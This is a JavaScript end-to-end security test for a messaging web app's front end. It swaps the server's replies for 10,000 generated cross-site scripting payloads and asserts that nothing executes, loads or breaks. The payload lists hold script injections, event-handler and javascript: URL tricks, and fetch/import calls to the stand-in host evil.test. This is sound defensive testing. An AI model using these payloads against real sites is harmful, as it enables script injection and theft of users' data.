// 10,000 hostile texts in every place where the desk's answers have one: between desk and page each answer is replaced by one whose
// strings, of all fields and all nested messages, are hostile, and whose numbers are absurd. All views are walked through. Nothing
// may run, load, or break the page.
import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { addresses, assert, go, launch, open } from "./desks.mjs";

const require = createRequire(new URL("../../desk/web/package.json", import.meta.url));
const { create, createFileRegistry, fromBinary, ScalarType, toBinary } = require("@bufbuild/protobuf");
const { FileDescriptorSetSchema } = require("@bufbuild/protobuf/wkt");
const folder = mkdtempSync(join(tmpdir(), "valise-many-"));
execFileSync("protoc", ["-I", fileURLToPath(new URL("../../proto", import.meta.url)), "--include_imports", `--descriptor_set_out=${folder}/set`, "valise/v1/desk.proto"]);
const registry = createFileRegistry(fromBinary(FileDescriptorSetSchema, readFileSync(`${folder}/set`)));
const [FromDesk, ToDesk] = ["FromDesk", "ToDesk"].map((name) => registry.getMessage(`valise.v1.${name}`));
rmSync(folder, { recursive: true });

const runs = ["alert(1)", "window.pwned=1", "fetch('http://evil.test/x')", "import('http://evil.test/x.js')", "new Image().src='http://evil.test/x'"];
const shapes = [
  (js) => `<script>${js}</script>`, (js) => `<img src=x onerror="${js}">`, (js) => `<svg onload="${js}">`, (js) => `"><svg/onload=${js}>`, (js) => `'-${js}-'`, (js) => `javascript:${js}`,
  (js) => `<iframe srcdoc="<script>${js}</script>">`, (js) => `<a href="javascript:${js}">x</a>`, (js) => `<math><mtext></form><img src onerror=${js}>`, (js) => `<details open ontoggle=${js}>`,
  (js) => `<object data="javascript:${js}">`, (js) => `<link rel=stylesheet href=http://evil.test/x.css onload=${js}>`, (js) => `<style>@import 'http://evil.test/x.css';</style>${js}`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`, (js) => `<base href=http://evil.test/><img src=x>${js}`, (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `data:text/html,<script>${js}</script>`, (js) => `<template><script>${js}</script></template>`, (js) => `]]><script>${js}</script>`, (js) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${js}>"}}}`,
];
const dresses = ["", "\u202E", "\u2066\u2067\u2068", "\u0000", "\u200F", "\uFEFF", "\u2029", "%", "../", "#", "?", "//evil.test/", "\\", "&lt;", "&#x3C;", "\u0301\u0301\u0301", "١", "𒐫", "__proto__", "constructor"];
const ways = [(text) => text, (text) => text.toUpperCase(), encodeURIComponent, (text) => text.repeat(3), (text) => [...text].join("\u200B")];
const payloads = runs.flatMap((js) => shapes.map((shape) => shape(js))).flatMap((text) => dresses.flatMap((dress) => ways.map((way) => dress + way(text))));
assert.equal(payloads.length, 10_000);

let at = 0;
const used = new Set();
const next = () => (used.add(at % payloads.length), payloads[at++ % payloads.length]);
const numbers = [0n, 1n, BigInt(Date.now()), -1n, 2n ** 62n, 253402300799000n];
const many = { messages: 500 };
// What a view has to find by its id or kind, to be shown at all.
const named = { DeskFormDraft: { id: "x", kind: "k" }, DeskFormKind: { kind: "k" }, DeskForm: { kind: "k" } };
function filled(type, depth = 0) {
  const message = create(type);
  for (const field of type.fields) {
    const length = depth === 0 || type.name === "DeskRoomHistory" || type.name === "DeskMessages" ? (many[field.localName] ?? 3) : 2;
    const one = () => {
      if (field.message) return filled(field.message, depth + 1);
      if (field.scalar === ScalarType.STRING) return next();
      if (field.scalar === ScalarType.BYTES) return new Uint8Array();
      if (field.scalar === ScalarType.BOOL) return at % 3 !== 0;
      if (field.scalar === ScalarType.INT64 || field.scalar === ScalarType.UINT64) return field.scalar === ScalarType.UINT64 ? BigInt(at % 1000) : numbers[at % numbers.length];
      if (field.fieldKind === "enum" || field.listKind === "enum") return field.enum.values[at % field.enum.values.length].number;
      return at % 8;
    };
    message[field.localName] = field.fieldKind === "list" ? Array.from({ length }, one) : one();
  }
  return Object.assign(message, named[type.name]);
}
const kept = new Set(["done", "welcome", "connection", "locked", "saved", "sent", "notes"]);
// What is asked for and is not there is answered all the same.
const answers = { getRoom: "room", getAuthority: "authorities", getRecipients: "recipients", getLog: "log", getReach: "reaches", find: "found", search: "authorities", getForm: "form", getFormDrafts: "formDrafts", getFormKinds: "formKinds", officeAct: "office", getLinks: "links" };
const asked = new Map();
function poisoned(bytes) {
  const frame = fromBinary(FromDesk, new Uint8Array(bytes));
  const wanted = frame.body.case === "failure" ? answers[asked.get(frame.id)] : frame.body.case;
  if (!wanted || kept.has(wanted)) return bytes;
  const field = FromDesk.fields.find((one) => one.localName === wanted);
  frame.body = { case: wanted, value: filled(field.message) };
  return Buffer.from(toBinary(FromDesk, frame));
}

const browser = await launch();
try {
  const { page, strange } = await open(browser, addresses[0], {
    prepare: (page) =>
      page.routeWebSocket(/\/socket$/, (socket) => {
        const desk = socket.connectToServer();
        socket.onMessage((message) => {
          const request = fromBinary(ToDesk, new Uint8Array(message));
          asked.set(request.id, request.body.case);
          desk.send(message);
        });
        desk.onMessage((message) => socket.send(typeof message === "string" ? message : poisoned(message)));
      }),
  });
  const look = async (view) => {
    const shown = await go(page, view).then(() => true, () => false);
    assert.ok(shown, `${view} is not shown: ${(await page.locator("main").innerText()).slice(0, 300)} ${strange}`);
    const left = await page.evaluate(() => ({
      pwned: window.pwned,
      elements: document.querySelectorAll("#desk script, #desk iframe, #desk img, #desk svg:not(.qr), #desk style, #desk object, #desk base, #desk meta, #desk link").length,
      links: [...document.querySelectorAll("#desk a")].filter((link) => !link.getAttribute("href")?.startsWith("#")).length,
      handlers: [...document.querySelectorAll("#desk *")].filter((element) => [...element.attributes].some((attribute) => /^on|^style$|^srcdoc$/.test(attribute.name))).length,
    }));
    assert.deepEqual(left, { pwned: undefined, elements: 0, links: 0, handlers: 0 }, view);
  };
  for (let round = 0; round < 3; ++round) {
    for (const view of ["#/inbox", "#/rooms", "#/write", "#/duty", "#/search", "#/directory", "#/directory/x", "#/device", "#/device-link", "#/forms", "#/form-new", "#/form/x", "#/form-draft/x", "#/office", "#/registrar"]) {
      await look(view);
      if (view === "#/search") await page.locator('input[type="search"]').fill(`x${round}`);
      if (view === "#/write") {
        await page.locator('.recipients input[role="combobox"]').fill("x");
        await page.locator('[role="option"]').first().waitFor();
        await page.keyboard.press("Enter");
        await page.locator(".counterpart").first().waitFor();
      }
      if (view === "#/form-draft/x") await page.locator("form.form-draft").waitFor();
      if (view === "#/office") await page.locator("section .row").first().waitFor();
      if (view === "#/registrar") {
        await page.locator("main button").first().click();
        await page.locator('form.report input[type="password"]').fill("any");
        await page.locator("form.report button.main").click();
        await page.locator(".proposal").first().waitFor();
      }
    }
    await look(`#/room/${round}`);
    await page.waitForFunction(() => document.querySelectorAll(".message").length === 500);
    const summary = page.locator("details.case summary");
    if (await summary.count()) await summary.evaluate((element) => element.click());
    await page.locator(".tools select").selectOption(["ar", "zh", "en"][round]);
  }
  assert.deepEqual(strange, [], "a request, an error or a dialog");
  assert.equal(used.size, payloads.length, "not all of them were shown");
  console.log(`many: ${payloads.length} hostile texts in ${at} places of answers, in all views: nothing ran, nothing was requested`);
} finally {
  await browser.close();
}
